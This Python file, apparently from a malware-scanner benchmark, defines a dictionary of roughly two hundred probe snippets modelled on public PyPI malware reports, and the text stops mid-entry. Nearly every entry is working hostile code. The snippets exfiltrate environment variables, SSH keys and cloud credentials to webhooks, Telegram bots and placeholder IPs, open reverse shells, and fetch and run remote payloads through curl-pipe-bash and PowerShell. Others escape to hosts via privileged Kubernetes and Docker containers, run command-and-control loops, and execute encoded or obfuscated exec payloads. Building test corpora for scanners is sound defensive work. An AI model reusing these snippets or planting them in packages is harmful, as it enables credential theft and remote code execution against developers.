"""Scanner probe shapes from public write-ups of PyPI malware (2025-2026).

214 small shapes written in session 29 from public 2025-2026 write-ups of PyPI malware:
exfiltration channels, command channels and loaders, hidden code (encodings, encryption,
obfuscator output), persistence, credential sources, hooks, CI-targeted shapes, and
PowerShell / LOLBin variants. ``benchmarks.scan_probes --writeups`` runs each at install
time (``setup.py``), on import (a package's ``__init__.py``), in a function the package's
``__init__`` calls, and in a function nothing calls.

They are INERT text handed to the scanner; nothing runs them. Addresses are documentation
ones (``203.0.113.0/24``, ``example.com``), also inside the encoded payloads; tokens and
keys are made up.

``WRITEUPS`` maps a name to the code, or to ``(code, {shipped file: bytes})`` for a shape
that ships files beside its code. It holds the 42 shapes of a second reading too
(``scan_writeups2.WRITEUPS2``, session 30), so that ``--writeups`` counts 256 shapes.
"""

from __future__ import annotations

from benchmarks.scan_writeups2 import WRITEUPS2

WRITEUPS: dict[str, str | tuple[str, dict[str, bytes]]] = {
    # --- Exfiltration channels.
    # Google Apps Script web app as collector (Socket/Checkmarx 2025 stealers)
    "gas_webapp": (
        "import os, requests, socket\n"
        'requests.post("https://script.google.com/macros/s/AKfycbx1234567890abcdefghijklmnop/'
        'exec", json={"h": socket.gethostname(), "e": dict(os.environ)})'
    ),
    # Google Forms formResponse
    "gform": (
        "import getpass, socket, requests\n"
        'requests.post("https://docs.google.com/forms/d/e/1FAIpQLSabcdefghijk/formResponse", '
        'data={"entry.123456": getpass.getuser(), "entry.654321": socket.gethostname()})'
    ),
    # Firebase realtime DB PUT
    "firebase_put": (
        "import os, requests, getpass\n"
        'requests.put(f"https://quiet-app-default-rtdb.firebaseio.com/v/{getpass.getuser()}.'
        'json", json=dict(os.environ))'
    ),
    # Supabase client insert
    "supabase_insert": (
        "import os\n"
        "from supabase import create_client\n"
        'sb = create_client("https://abcdefgh.supabase.co", '
        '"eyJhbGciOiJIUzI1NiJ9.eyJyb2xlIjoiYW5vbiJ9.abc")\n'
        'sb.table("loot").insert({"env": dict(os.environ)}).execute()'
    ),
    # glitch.me collector
    "glitch_post": (
        "import os, requests\n"
        'requests.post("https://quiet-fox.glitch.me/log", '
        'data=open(os.path.expanduser("~/.aws/credentials")).read())'
    ),
    # render/railway/vercel collectors
    "onrender_env": (
        "import os, json, urllib.request\n"
        'urllib.request.urlopen(urllib.request.Request("https://pkg-stats.onrender.com/c", '
        'data=json.dumps(dict(os.environ)).encode(), headers={"Content-Type": '
        '"application/json"}))'
    ),
    "vercel_keys": (
        "import os, glob, requests\n"
        'k = {p: open(p).read() for p in glob.glob(os.path.expanduser("~/.ssh/id_*"))}\n'
        'requests.post("https://pkg-telemetry.vercel.app/api/t", json=k)'
    ),
    # zapier / make / ifttt webhooks
    "zapier_hook": (
        "import os, requests\n"
        'requests.post("https://hooks.zapier.com/hooks/catch/1234567/abcdef/", json={"env": '
        "dict(os.environ)})"
    ),
    "make_hook": (
        "import os, requests, platform\n"
        'requests.post("https://hook.eu1.make.com/abcdefghijklmnopqrstuvwx", json={"n": '
        'platform.node(), "aws": open(os.path.expanduser("~/.aws/credentials")).read()})'
    ),
    "ifttt_hook": (
        "import requests, getpass, socket\n"
        'requests.post("https://maker.ifttt.com/trigger/pkg/with/key/abcdEFGHijkl", '
        'json={"value1": getpass.getuser(), "value2": socket.gethostname()})'
    ),
    # ngrok tunnel collector
    "ngrok_collect": (
        "import os, requests\n"
        'requests.post("https://3f2a-203-0-113-45.ngrok-free.app/u", files={"k": '
        'open(os.path.expanduser("~/.ssh/id_rsa"), "rb")})'
    ),
    # OAST dependency-confusion callbacks (interactsh/burp)
    "oast_dns": (
        "import socket, getpass, os\n"
        'socket.gethostbyname(getpass.getuser() + "." + socket.gethostname() + '
        '".cq7abc123def.oast.fun")'
    ),
    "oastify_http": (
        "import socket, getpass, os, urllib.request\n"
        'urllib.request.urlopen("http://abc123xyz.oastify.com/?u=" + getpass.getuser() + "&h=" '
        '+ socket.gethostname() + "&d=" + os.getcwd())'
    ),
    "dnslog_cn": (
        'import os, socket\nos.system("ping -c 1 " + socket.gethostname() + ".abcd12.dnslog.cn")'
    ),
    # boto3 S3 upload of stolen files
    "s3_put": (
        "import boto3, os\n"
        's3 = boto3.client("s3", aws_access_key_id="AKIAABCDEFGHIJKLMNOP", '
        'aws_secret_access_key="abcd1234abcd1234abcd1234abcd1234abcd1234", '
        'region_name="us-east-1")\n'
        's3.put_object(Bucket="dev-logs-7781", Key=os.getlogin(), '
        'Body=open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read())'
    ),
    # Google Drive upload
    "gdrive_upload": (
        "import os\n"
        "from googleapiclient.discovery import build\n"
        "from googleapiclient.http import MediaFileUpload\n"
        "from google.oauth2 import service_account\n"
        'c = service_account.Credentials.from_service_account_info({"type": "service_account", '
        '"private_key": "x", "client_email": "a@b.iam.gserviceaccount.com", "token_uri": '
        '"https://oauth2.googleapis.com/token"})\n'
        'build("drive", "v3", credentials=c).files().create(body={"name": "k"}, '
        'media_body=MediaFileUpload(os.path.expanduser("~/.aws/credentials"))).execute()'
    ),
    # gofile / catbox / transfer.sh / file.io uploads of zipped loot
    "gofile_upload": (
        "import os, shutil, requests\n"
        'shutil.make_archive("/tmp/l", "zip", os.path.join(os.getenv("APPDATA"), "Exodus"))\n'
        'srv = requests.get("https://api.gofile.io/servers").json('
        ')["data"]["servers"][0]["name"]\n'
        'link = requests.post(f"https://{srv}.gofile.io/uploadFile", files={"file": '
        'open("/tmp/l.zip", "rb")}).json()["data"]["downloadPage"]'
    ),
    "catbox_upload": (
        "import os, requests\n"
        'requests.post("https://catbox.moe/user/api.php", data={"reqtype": "fileupload"}, '
        'files={"fileToUpload": open(os.path.expanduser("~/.ssh/id_rsa"), "rb")})'
    ),
    "transfer_sh": (
        "import os, requests\n"
        'requests.put("https://transfer.sh/k.txt", '
        'data=open(os.path.expanduser("~/.aws/credentials"), "rb"))'
    ),
    "fileio": (
        "import os, requests\n"
        'requests.post("https://file.io", files={"file": '
        'open(os.path.expanduser("~/.kube/config"), "rb")})'
    ),
    # pastebin API as exfil sink
    "pastebin_post": (
        "import os, requests\n"
        'requests.post("https://pastebin.com/api/api_post.php", data={"api_dev_key": '
        '"abcdef0123456789abcdef0123456789", "api_option": "paste", "api_paste_private": "2", '
        '"api_paste_code": str(dict(os.environ))})'
    ),
    # gitlab API commit
    "gitlab_commit": (
        "import os, json, requests\n"
        'requests.post("https://gitlab.com/api/v4/projects/12345678/repository/files/'
        'data%2Fenv.json", headers={"PRIVATE-TOKEN": "glpat-abcdefghijklmnopqrst"}, '
        'json={"branch": "main", "content": json.dumps(dict(os.environ)), "commit_message": '
        '"sync"})'
    ),
    # telegram via python-telegram-bot / aiogram / telethon / pyrogram
    "ptb_send_doc": (
        "import os, asyncio\n"
        "from telegram import Bot\n"
        "async def m():\n"
        '    await Bot("7123456789:AAHfGhIjKlMnOpQrStUvWxYz0123456789ab").send_document('
        'chat_id=123456, document=open(os.path.expanduser("~/.ssh/id_rsa"), "rb"))\n'
        "asyncio.run(m())"
    ),
    "aiogram_send": (
        "import os, asyncio\n"
        "from aiogram import Bot\n"
        "async def m():\n"
        '    b = Bot(token="7123456789:AAHfGhIjKlMnOpQrStUvWxYz0123456789ab")\n'
        "    await b.send_message(123456, str(dict(os.environ)))\n"
        "asyncio.run(m())"
    ),
    "telethon_send": (
        "import os\n"
        "from telethon.sync import TelegramClient\n"
        'with TelegramClient("s", 123456, "0123456789abcdef0123456789abcdef") as c:\n'
        '    c.send_file("me", os.path.expanduser("~/.aws/credentials"))'
    ),
    # discord.py bot channel file upload
    "discord_bot_file": (
        "import discord, os\n"
        "c = discord.Client(intents=discord.Intents.default())\n"
        "@c.event\n"
        "async def on_ready():\n"
        "    await c.get_channel(123456789012345678).send(file=discord.File(os.path.expanduser("
        '"~/.ssh/id_rsa")))\n'
        'c.run("MTEyMzQ1Njc4OTAxMjM0NTY3OA.GaBcDe.abcdefghijklmnopqrstuvwxyz0123456789AB")'
    ),
    # slack incoming webhook
    "slack_webhook": (
        "import os, requests\n"
        'requests.post("https://hooks.slack.com/services/T00000000/B00000000/'
        'XXXXXXXXXXXXXXXXXXXXXXXX", json={"text": str(dict(os.environ))})'
    ),
    # mail APIs
    "yagmail": (
        "import yagmail, os\n"
        'yagmail.SMTP("collector.box@gmail.com", "abcd efgh ijkl '
        'mnop").send("collector.box@gmail.com", "k", '
        'contents=[os.path.expanduser("~/.aws/credentials")])'
    ),
    "sendgrid_api": (
        "import os, requests\n"
        'requests.post("https://api.sendgrid.com/v3/mail/send", headers={"Authorization": '
        '"Bearer SG.abcdefghijklmnop.qrstuvwxyz0123456789"}, json={"personalizations": [{"to": '
        '[{"email": "a@example.com"}]}], "from": {"email": "b@example.com"}, "subject": "e", '
        '"content": [{"type": "text/plain", "value": str(dict(os.environ))}]})'
    ),
    "outlook_smtp": (
        "import smtplib, os, getpass\n"
        's = smtplib.SMTP("smtp-mail.outlook.com", 587); s.starttls(); '
        's.login("x@outlook.com", "pw")\n'
        's.sendmail("x@outlook.com", "x@outlook.com", '
        'open(os.path.expanduser("~/.ssh/id_rsa")).read())'
    ),
    # MQTT public broker
    "mqtt_exfil": (
        "import os, json\n"
        "import paho.mqtt.client as mqtt\n"
        "c = mqtt.Client()\n"
        'c.connect("broker.hivemq.com", 1883)\n'
        'c.publish("dev/t/" + os.getlogin(), json.dumps(dict(os.environ)))'
    ),
    # http.client / pycurl / httplib2 / niquests
    "http_client": (
        "import os, json, http.client\n"
        'c = http.client.HTTPConnection("203.0.113.45", 8080)\n'
        'c.request("POST", "/c", body=json.dumps(dict(os.environ)))'
    ),
    "pycurl_post": (
        "import pycurl, os\n"
        "c = pycurl.Curl()\n"
        'c.setopt(c.URL, "https://collect.example.com/c")\n'
        'c.setopt(c.POSTFIELDS, open(os.path.expanduser("~/.aws/credentials")).read())\n'
        "c.perform()"
    ),
    "httplib2_post": (
        "import httplib2, os, json\n"
        'httplib2.Http().request("https://collect.example.com/c", "POST", '
        "body=json.dumps(dict(os.environ)))"
    ),
    "niquests_post": (
        'import niquests, os\nniquests.post("https://collect.example.com/c", json=dict(os.environ))'
    ),
    "tornado_fetch": (
        "import os, json\n"
        "from tornado.httpclient import HTTPClient\n"
        'HTTPClient().fetch("https://collect.example.com/c", method="POST", '
        "body=json.dumps(dict(os.environ)))"
    ),
    # tor proxy
    "tor_onion": (
        "import os, requests\n"
        'requests.post("http://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvw.onion/'
        'c", json=dict(os.environ), proxies={"http": "socks5h://127.0.0.1:9050"})'
    ),
    # shell tools uploading
    "wget_postfile": (
        "import os, subprocess\n"
        'subprocess.run(["wget", "-q", "--post-file", '
        'os.path.expanduser("~/.aws/credentials"), "http://203.0.113.45/u", "-O", "/dev/null"])'
    ),
    "scp_key": (
        "import os, subprocess\n"
        'subprocess.run(["scp", "-o", "StrictHostKeyChecking=no", '
        'os.path.expanduser("~/.ssh/id_rsa"), "u@203.0.113.45:/tmp/k"])'
    ),
    "nc_pipe": (
        'import os\nos.system("cat ~/.aws/credentials ~/.ssh/id_rsa | nc 203.0.113.45 9001")'
    ),
    "dev_tcp": (
        'import subprocess\nsubprocess.Popen(["bash", "-c", "env > /dev/tcp/203.0.113.45/9001"])'
    ),
    "ps_irm_upload": (
        "import subprocess\n"
        'subprocess.run(["powershell", "-c", "Invoke-RestMethod -Uri http://203.0.113.45/u '
        '-Method Post -InFile $env:APPDATA\\\\Exodus\\\\exodus.wallet\\\\seed.seco"])'
    ),
    # litellm-style encrypted bundle with openssl + curl
    "openssl_bundle": (
        "import os, subprocess\n"
        'subprocess.run("tar czf /tmp/.b.tgz ~/.ssh ~/.aws ~/.kube 2>/dev/null; openssl enc '
        "-aes-256-cbc -pbkdf2 -pass pass:k -in /tmp/.b.tgz -out /tmp/.b.enc; curl -s -X POST "
        '--data-binary @/tmp/.b.enc https://models.example.cloud/", shell=True)'
    ),
    # twilio sms
    "twilio_sms": (
        "import os\n"
        "from twilio.rest import Client\n"
        'Client("ACabcdef0123456789abcdef0123456789", '
        '"0123456789abcdef0123456789abcdef").messages.create(to="+15550001111", '
        'from_="+15550002222", body=os.getenv("AWS_SECRET_ACCESS_KEY"))'
    ),
    # ICMP exfil via scapy
    "icmp_scapy": (
        "import os\n"
        "from scapy.all import IP, ICMP, Raw, send\n"
        'send(IP(dst="203.0.113.45")/ICMP()/Raw(load=open(os.path.expanduser("~/.aws/'
        'credentials"), "rb").read()))'
    ),
    # notion API
    "notion_page": (
        "import os, requests\n"
        'requests.post("https://api.notion.com/v1/pages", headers={"Authorization": "Bearer '
        'secret_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG", "Notion-Version": "2022-06-28"}, '
        'json={"parent": {"database_id": "abc"}, "properties": {"Name": {"title": [{"text": '
        '{"content": str(dict(os.environ))}}]}}})'
    ),
    # --- Receiving commands and payloads and running them.
    # payload hosting platforms -> run
    "raw_github_exec": (
        "import urllib.request\n"
        'exec(urllib.request.urlopen("https://raw.githubusercontent.com/someone/cfg/main/init.'
        'py").read().decode())'
    ),
    "dropbox_exe": (
        "import os, tempfile, requests, subprocess\n"
        'p = os.path.join(tempfile.gettempdir(), "AdobeUpdate.exe")\n'
        'open(p, "wb").write(requests.get("https://www.dropbox.com/scl/fi/abc123/setup.'
        'exe?dl=1").content)\n'
        "subprocess.Popen(p, creationflags=0x08000000)"
    ),
    "gdrive_exe": (
        "import os, requests, subprocess\n"
        'p = os.path.join(os.getenv("TEMP"), "svc.exe")\n'
        'open(p, "wb").write(requests.get("https://drive.google.com/'
        'uc?export=download&id=1AbCdEfGhIjKlMnOpQrStUvWxYz").content)\n'
        "subprocess.Popen([p])"
    ),
    "discord_cdn_exe": (
        "import os, urllib.request\n"
        'p = os.path.join(os.getenv("APPDATA"), "rtk.exe")\n'
        'urllib.request.urlretrieve("https://cdn.discordapp.com/attachments/1234/5678/rtk.exe",'
        " p)\n"
        "os.startfile(p)"
    ),
    "hf_pickle": (
        "import pickle\n"
        "from huggingface_hub import hf_hub_download\n"
        'p = hf_hub_download(repo_id="someone/tiny-cfg", filename="cfg.pkl")\n'
        'pickle.load(open(p, "rb"))'
    ),
    "hf_torch_load": (
        "import torch\n"
        "from huggingface_hub import hf_hub_download\n"
        'torch.load(hf_hub_download("someone/tiny-model", "model.bin"), weights_only=False)'
    ),
    # dead drop resolvers (Telegram channel page / Steam profile) then exec
    "deaddrop_tme": (
        "import re, base64, requests\n"
        'page = requests.get("https://t.me/s/quietchan42").text\n'
        'c2 = base64.b64decode(re.findall(r"@@(.+?)@@", page)[-1]).decode()\n'
        "exec(requests.get(c2).text)"
    ),
    "deaddrop_steam": (
        "import re, requests, subprocess\n"
        'h = re.search(r"[a-z0-9.-]+\\.[a-z]{2,}", '
        'requests.get("https://steamcommunity.com/profiles/76561199000000000").text.split('
        '"actual_persona_name")[1]).group(0)\n'
        'subprocess.Popen(requests.get("http://" + h + "/task").text, shell=True)'
    ),
    # pip second stage
    "pip_git_stage": (
        "import subprocess, sys\n"
        'subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", '
        '"git+https://github.com/someone/helper-lib.git"])'
    ),
    "pip_index_stage": (
        "import subprocess, sys\n"
        'subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", '
        '"http://203.0.113.45:8080/simple/", "quiet-helper"])'
    ),
    "pip_url_stage": (
        'import os\nos.system("pip install -q https://files.example.com/pkgs/helper-0.1.tar.gz")'
    ),
    # loaders
    "sourcefileloader": (
        "import importlib.machinery, urllib.request\n"
        'urllib.request.urlretrieve("https://cdn.example.com/h.py", "/tmp/.h.py")\n'
        'importlib.machinery.SourceFileLoader("h", "/tmp/.h.py").load_module()'
    ),
    "zipimporter": (
        "import zipimport, urllib.request\n"
        'urllib.request.urlretrieve("https://cdn.example.com/l.zip", "/tmp/.l.zip")\n'
        'zipimport.zipimporter("/tmp/.l.zip").load_module("stage")'
    ),
    "runpy_module": (
        "import runpy, sys, urllib.request, os\n"
        'urllib.request.urlretrieve("https://cdn.example.com/s.py", "/tmp/stage2.py")\n'
        'sys.path.insert(0, "/tmp")\n'
        'runpy.run_module("stage2", run_name="__main__")'
    ),
    "imp_load_source": (
        "import imp, urllib.request\n"
        'urllib.request.urlretrieve("https://cdn.example.com/s.py", "/tmp/.s.py")\n'
        'imp.load_source("s", "/tmp/.s.py")'
    ),
    "meta_path_hook": (
        "import sys, importlib.abc, importlib.util, urllib.request\n"
        "class F(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
        "    def find_spec(self, n, p, t=None):\n"
        '        return importlib.util.spec_from_loader(n, self) if n == "qcore" else None\n'
        "    def create_module(self, s): return None\n"
        "    def exec_module(self, m):\n"
        '        exec(urllib.request.urlopen("https://cdn.example.com/qcore.py").read(), '
        "m.__dict__)\n"
        "sys.meta_path.insert(0, F())\n"
        "import qcore"
    ),
    # subprocess relatives fed from network
    "os_popen_c2": (
        'import os, requests\nos.popen(requests.get("http://203.0.113.45/cmd").text).read()'
    ),
    "spawn_c2": (
        "import os, urllib.request\n"
        'urllib.request.urlretrieve("http://203.0.113.45/a", "/tmp/.a")\n'
        'os.chmod("/tmp/.a", 0o755)\n'
        'os.spawnl(os.P_NOWAIT, "/tmp/.a", "/tmp/.a")'
    ),
    "execv_dl": (
        "import os, urllib.request\n"
        'urllib.request.urlretrieve("http://203.0.113.45/a", "/tmp/.a")\n'
        'os.chmod("/tmp/.a", 0o755)\n'
        "if os.fork() == 0:\n"
        '    os.execv("/tmp/.a", ["kworker"])'
    ),
    "posix_spawn_dl": (
        "import os, urllib.request\n"
        'urllib.request.urlretrieve("http://203.0.113.45/a", "/tmp/.a")\n'
        'os.chmod("/tmp/.a", 0o755)\n'
        'os.posix_spawn("/tmp/.a", ["/tmp/.a"], os.environ)'
    ),
    "pty_spawn_shell": (
        "import socket, os, pty\n"
        's = socket.socket(); s.connect(("203.0.113.45", 4444))\n'
        "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\n"
        'pty.spawn("/bin/bash")'
    ),
    "asyncio_subproc_c2": (
        "import asyncio, aiohttp\n"
        "async def loop():\n"
        "    async with aiohttp.ClientSession() as s:\n"
        "        while True:\n"
        '            cmd = await (await s.get("http://203.0.113.45/t")).text()\n'
        "            p = await asyncio.create_subprocess_shell(cmd, "
        "stdout=asyncio.subprocess.PIPE)\n"
        "            out, _ = await p.communicate()\n"
        '            await s.post("http://203.0.113.45/r", data=out)\n'
        "            await asyncio.sleep(10)\n"
        "asyncio.run(loop())"
    ),
    "mp_process_system": (
        "import multiprocessing, os, requests\n"
        "multiprocessing.Process(target=os.system, "
        'args=(requests.get("http://203.0.113.45/c").text,), daemon=True).start()'
    ),
    "pexpect_c2": (
        'import pexpect, requests\npexpect.run(requests.get("http://203.0.113.45/c").text)'
    ),
    "sh_lib": ('import sh\nsh.bash("-c", "curl -s http://203.0.113.45/x | bash")'),
    "plumbum_lib": (
        "from plumbum import local\n"
        '(local["curl"]["-s", "http://203.0.113.45/x"] | local["bash"])()'
    ),
    # windows execution APIs
    "wscript_shell_run": (
        "import win32com.client\n"
        'win32com.client.Dispatch("WScript.Shell").Run("powershell -w hidden -ep bypass -c '
        'iex(iwr http://203.0.113.45/a.ps1 -useb)", 0)'
    ),
    "wmi_create": (
        "import wmi\n"
        'wmi.WMI().Win32_Process.Create(CommandLine="powershell -w hidden -c iwr '
        'http://203.0.113.45/a.exe -OutFile $env:TEMP\\\\a.exe; & $env:TEMP\\\\a.exe")'
    ),
    "win32api_shellexec": (
        "import win32api, os, urllib.request\n"
        'p = os.path.join(os.getenv("TEMP"), "u.exe")\n'
        'urllib.request.urlretrieve("http://203.0.113.45/u.exe", p)\n'
        'win32api.ShellExecute(0, "open", p, None, None, 0)'
    ),
    "createprocess": (
        "import win32process, os, urllib.request\n"
        'p = os.path.join(os.getenv("TEMP"), "u.exe")\n'
        'urllib.request.urlretrieve("http://203.0.113.45/u.exe", p)\n'
        "win32process.CreateProcess(None, p, None, None, 0, 0x08000000, None, None, "
        "win32process.STARTUPINFO())"
    ),
    "ps_encoded": (
        "import subprocess\n"
        'subprocess.Popen(["powershell.exe", "-NoP", "-NonI", "-W", "Hidden", "-Enc", '
        '"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"])'
    ),
    "regsvr32_sct": (
        "import subprocess\n"
        'subprocess.Popen("regsvr32 /s /n /u /i:http://203.0.113.45/a.sct scrobj.dll", '
        "shell=True)"
    ),
    "wscript_vbs": (
        "import os, urllib.request, subprocess\n"
        'p = os.path.join(os.getenv("TEMP"), "u.vbs")\n'
        'urllib.request.urlretrieve("http://203.0.113.45/u.vbs", p)\n'
        'subprocess.Popen(["wscript.exe", "//B", p])'
    ),
    "java_jar": (
        "import os, subprocess, urllib.request\n"
        'p = os.path.join(os.path.expanduser("~"), ".cache", "jx.jar")\n'
        'urllib.request.urlretrieve("https://github.com/someone/tools/raw/main/jx.jar", p)\n'
        'subprocess.Popen(["java", "-jar", p], stdout=subprocess.DEVNULL, '
        "stderr=subprocess.DEVNULL)"
    ),
    "curl_py_pipe": ('import os\nos.system("curl -fsSL http://203.0.113.45/s.py | python3 -")'),
    "deno_remote": (
        'import subprocess\nsubprocess.Popen(["deno", "run", "-A", "https://cdn.example.com/x.ts"])'
    ),
    "bun_stage": (
        "import os, subprocess\n"
        'subprocess.run("curl -fsSL https://bun.sh/install | bash", shell=True)\n'
        'subprocess.Popen([os.path.expanduser("~/.bun/bin/bun"), '
        'os.path.join(os.path.dirname(__file__), "bun_environment.js")])'
    ),
    # docker / kubernetes abuse (TeamPCP litellm stage 3)
    "k8s_priv_pod": (
        "from kubernetes import client, config\n"
        "config.load_incluster_config()\n"
        'client.CoreV1Api().create_namespaced_pod("kube-system", {"apiVersion": "v1", "kind": '
        '"Pod", "metadata": {"name": "node-setup"}, "spec": {"hostPID": True, "containers": '
        '[{"name": "c", "image": "alpine", "securityContext": {"privileged": True}, "command": '
        '["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh", "-c", "curl -s '
        'http://203.0.113.45/x | sh"]}]}})'
    ),
    "docker_priv": (
        "import docker\n"
        'docker.from_env().containers.run("alpine", "chroot /host sh -c \'curl -s '
        'http://203.0.113.45/x | sh\'", volumes={"/": {"bind": "/host", "mode": "rw"}}, '
        "privileged=True, detach=True)"
    ),
    "kubectl_secrets": (
        "import subprocess, requests\n"
        'out = subprocess.check_output(["kubectl", "get", "secrets", "-A", "-o", "json"])\n'
        'requests.post("https://collect.example.com/k", data=out)'
    ),
    # MQTT / IRC command channels
    "mqtt_c2": (
        "import subprocess\n"
        "import paho.mqtt.client as mqtt\n"
        "def on_message(c, u, m):\n"
        '    c.publish("r/x", subprocess.getoutput(m.payload.decode()))\n'
        "c = mqtt.Client(); c.on_message = on_message\n"
        'c.connect("broker.hivemq.com", 1883); c.subscribe("t/x"); c.loop_forever()'
    ),
    "irc_c2": (
        "import socket, subprocess\n"
        's = socket.socket(); s.connect(("irc.libera.chat", 6667))\n'
        's.send(b"NICK q1\\r\\nUSER q1 0 * :q\\r\\nJOIN #qchan\\r\\n")\n'
        "while True:\n"
        "    d = s.recv(2048).decode()\n"
        '    if "!cmd " in d:\n'
        '        s.send(("PRIVMSG #qchan :" + subprocess.getoutput(d.split("!cmd ", '
        '1)[1].strip()) + "\\r\\n").encode())'
    ),
    # HTTP long-poll with urllib + exec of base64 tasks (discordpydebug-style)
    "urllib_poll_b64": (
        "import urllib.request, base64, time, json\n"
        "while True:\n"
        '    t = json.loads(urllib.request.urlopen("https://backstab.example.repl.co/tasks").'
        "read())\n"
        "    for job in t:\n"
        '        exec(base64.b64decode(job["code"]))\n'
        "    time.sleep(5)"
    ),
    "replit_poll_shell": (
        "import requests, subprocess, time\n"
        "while True:\n"
        '    r = requests.get("https://quiet-bot.someone.repl.co/c").json()\n'
        '    if r.get("cmd"):\n'
        '        requests.post("https://quiet-bot.someone.repl.co/o", json={"o": '
        'subprocess.run(r["cmd"], shell=True, capture_output=True, text=True).stdout})\n'
        "    time.sleep(1)"
    ),
    # Gmail / IMAP command channel
    "imap_c2": (
        "import imaplib, email, subprocess\n"
        'm = imaplib.IMAP4_SSL("imap.gmail.com"); m.login("qbox@gmail.com", "abcd efgh ijkl '
        'mnop"); m.select("INBOX")\n'
        'for n in m.search(None, "UNSEEN")[1][0].split():\n'
        '    msg = email.message_from_bytes(m.fetch(n, "(RFC822)")[1][0][1])\n'
        "    subprocess.Popen(msg.get_payload(), shell=True)"
    ),
    # GitHub issues / commit comments as C2
    "gh_issue_c2": (
        "import requests, subprocess\n"
        'for c in requests.get("https://api.github.com/repos/someone/notes/issues/1/comments").'
        "json():\n"
        '    if c["body"].startswith("run:"):\n'
        '        subprocess.Popen(c["body"][4:], shell=True)'
    ),
    # ctypes: shellcode from network, libc system, mmap exec
    "ctypes_libc_system": (
        "import ctypes, requests\n"
        'ctypes.CDLL("libc.so.6").system(requests.get("http://203.0.113.45/c").text.encode())'
    ),
    "mmap_shellcode": (
        "import mmap, ctypes, urllib.request\n"
        'sc = urllib.request.urlopen("http://203.0.113.45/sc.bin").read()\n'
        "m = mmap.mmap(-1, len(sc), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
        "m.write(sc)\n"
        "ctypes.CFUNCTYPE(ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()"
    ),
    "ctypes_loadlib_dl": (
        "import ctypes, os, urllib.request\n"
        'p = os.path.join(os.getenv("TEMP", "/tmp"), "libq.dll")\n'
        'urllib.request.urlretrieve("http://203.0.113.45/q.dll", p)\n'
        "ctypes.WinDLL(p)"
    ),
    # --- Hiding code and strings (encodings, encryption libraries, obfuscator output).
    "b85_zlib_exec": (
        "import base64, zlib\n"
        'exec(zlib.decompress(base64.b85decode("c$~}3Eyyn_QOGam$}iR{t}HG|&DBs(E-lJY&@EQTC@Cqh('
        '$_aKFxE5BGc+{TGcnb#P^eKT&QRCn0sug!5q|")))'
    ),
    "a85_exec": (
        "import base64\n"
        "exec(base64.a85decode('Bl.g-Ec`FBEsci,/ou;ZFCf;;-Y%:>C`k<N+D>k=E&oX*1,(L:0J5("
        "71G1LA06eUe+EM3D.1-'))"
    ),
    "b32_exec": (
        "import base64\n"
        'exec(base64.b32decode("NFWXA33SOQQG64YKN5ZS443ZON2GK3JIE5RXK4TMEAWXGIDIOR2HAORPF4ZDAMZ'
        'OGAXDCMJTFY2DKL3YEB6CA43IE4UQU==="))'
    ),
    "b16_exec": (
        "import base64\n"
        'exec(base64.b16decode("696D706F7274206F730A6F732E73797374656D28276375726C202D732068747'
        '4703A2F2F3230332E302E3131332E34352F78207C20736827290A"))'
    ),
    "lzma_exec": (
        "import base64, lzma\n"
        'exec(lzma.decompress(base64.b64decode("/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQA5aW1wb3J0IG9'
        "zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjQ1L3ggfCBzaCcpCgAAAEFqGOzsYMSSAAFSO"
        'k9TB24ftvN9AQAAAAAEWVo=")))'
    ),
    "bz2_exec": (
        "import base64, bz2\n"
        'exec(bz2.decompress(base64.b64decode("QlpoOTFBWSZTWQamzOwAABDZgAAQQOP+EApm3mQgAEGPUeke'
        'ptEHqeUwEKAAAAADNQpi/z5madg9vGRQUS01asEOLWpUnO3S98rBtjqEeJ4US/F3JFOFCQBqbM7A")))'
    ),
    "gzip_exec": (
        "import base64, gzip\n"
        'exec(gzip.decompress(base64.b64decode("H4sIABguDmsC/'
        "8vMLcgvKlHIL+bKL9YrriwuSc3VUE8uLcpR0C1WyCgpKbDS1zcyMNYz0DM0NNYzMdWvUKhRKM5Q1+QCAOhMVdE"
        '6AAAA")))'
    ),
    "fromhex_exec": (
        'exec(bytes.fromhex("696d706f7274206f730a6f732e73797374656d28276375726c202d732068747470'
        '3a2f2f3230332e302e3131332e34352f78207c20736827290a").decode())'
    ),
    "unhexlify_exec": (
        "import binascii\n"
        'exec(binascii.unhexlify("696d706f7274206f730a6f732e73797374656d28276375726c202d7320687'
        '474703a2f2f3230332e302e3131332e34352f78207c20736827290a"))'
    ),
    "rot13_exec": (
        "import codecs\n"
        "exec(codecs.decode(\"vzcbeg bf\\nbf.flfgrz('phey -f uggc://203.0.113.45/k | "
        'fu\')\\n", "rot13"))'
    ),
    "xor_exec": (
        "k = 0x5a\n"
        "d = [51, 55, 42, 53, 40, 46, 122, 53, 41, 80, 53, 41, 116, 41, 35, 41, 46, 63, 55, "
        "114, 125, 57, 47, 40, 54, 122, 119, 41, 122, 50, 46, 46, 42, 96, 117, 117, 104, 106, "
        "105, 116, 106, 116, 107, 107, 105, 116, 110, 111, 117, 34, 122, 38, 122, 41, 50, 125, "
        "115, 80]\n"
        "exec(bytes(b ^ k for b in d).decode())"
    ),
    "chr_join_exec": (
        'exec("".join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115, 10, 111, '
        "115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 99, 117, 114, 108, 32, 45, 115, 32, "
        "104, 116, 116, 112, 58, 47, 47, 50, 48, 51, 46, 48, 46, 49, 49, 51, 46, 52, 53, 47, "
        "120, 32, 124, 32, 115, 104, 39, 41, 10]))"
    ),
    "unicode_escape_exec": (
        "import codecs\n"
        'exec(codecs.decode("\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x0a\\x6f\\x73\\x2e'
